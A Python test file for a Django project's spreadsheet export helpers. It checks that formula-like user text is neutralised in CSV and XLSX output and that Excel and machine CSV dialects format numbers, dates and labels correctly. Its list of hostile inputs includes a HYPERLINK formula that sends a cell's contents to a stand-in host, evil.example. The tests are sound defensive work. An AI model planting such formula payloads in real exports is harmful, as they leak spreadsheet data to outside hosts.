"""User text never becomes a formula in a CSV or XLSX output."""

import csv
import datetime
import io
from decimal import Decimal

from django.core.exceptions import ValidationError
from django.test import SimpleTestCase
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from profploeg.lib.spreadsheets import (
    EXCEL,
    MACHINE,
    SafeWriter,
    append_row,
    csv_cell,
    csv_dialect,
    safe_text,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


class SpreadsheetTests(SimpleTestCase):
    def test_formula_like_text_is_written_as_text_in_csv(self):
        out = io.StringIO()
        SafeWriter(out).writerow([*HOSTILE, "gewone tekst", -5, 3.5])
        row = next(csv.reader(io.StringIO(out.getvalue())))
        for written in row[: len(HOSTILE)]:
            self.assertTrue(written.startswith("'"), written)
        self.assertEqual(row[len(HOSTILE) :], ["gewone tekst", "-5", "3.5"])

    def test_formula_like_text_is_a_string_cell_in_xlsx(self):
        workbook = Workbook()
        append_row(workbook.active, [*HOSTILE, 42])
        buffer = io.BytesIO()
        workbook.save(buffer)
        sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
        cells = list(sheet[1])
        for cell, text in zip(cells, HOSTILE, strict=False):
            self.assertEqual(cell.data_type, "s")
            self.assertEqual(cell.value, text)
        self.assertEqual(cells[-1].value, 42)

    def test_numbers_and_plain_text_are_left_alone(self):
        self.assertEqual(safe_text(-5), -5)
        self.assertEqual(safe_text("Lier"), "Lier")


class CsvDialectTests(SimpleTestCase):
    def write(self, dialect, values) -> str:
        out = io.StringIO()
        SafeWriter(out, dialect=dialect).writerow(values)
        return out.getvalue()

    def test_excel_dialect_has_a_bom_semicolons_decimal_commas_and_day_first_dates(self):
        with translation.override("nl-be"):
            text = self.write(
                EXCEL,
                ["Lier", Decimal("1500.50"), Decimal("-2.5"), datetime.date(2022, 2, 7), True],
            )
        self.assertEqual(text, "\ufeffLier;1500,50;-2,5;07/02/2022;ja\r\n")

    def test_machine_dialect_has_commas_decimal_points_and_iso_dates(self):
        text = self.write(MACHINE, ["Lier", Decimal("1500.50"), datetime.date(2022, 2, 7), None])
        self.assertEqual(text, "Lier,1500.50,2022-02-07,\r\n")

    def test_formula_like_text_is_neutralised_in_both_dialects_but_negative_numbers_are_not(self):
        for dialect in (EXCEL, MACHINE):
            with self.subTest(dialect=dialect.name):
                text = self.write(dialect, [*HOSTILE, Decimal("-2.5")]).removeprefix("\ufeff")
                row = next(csv.reader(io.StringIO(text), delimiter=dialect.delimiter))
                for written in row[: len(HOSTILE)]:
                    self.assertTrue(written.startswith("'"), written)
                self.assertEqual(row[-1], f"-2{dialect.decimal_mark}5")

    def test_an_unknown_dialect_is_refused_with_the_choices(self):
        self.assertIs(csv_dialect(None), EXCEL)
        self.assertIs(csv_dialect("machine"), MACHINE)
        with self.assertRaisesMessage(ValidationError, "excel or machine"):
            csv_dialect("tsv")

    def test_people_read_translated_labels_in_dutch_and_programs_read_keys(self):
        label = gettext_lazy("Municipality")
        with translation.override("en"):
            with EXCEL.language():
                self.assertEqual(EXCEL.header("name", label), "Gemeente")
                self.assertEqual(csv_cell(True, EXCEL), "ja")
            with MACHINE.language():
                self.assertEqual(MACHINE.header("name", label), "name")
                self.assertEqual(translation.get_language(), "en")
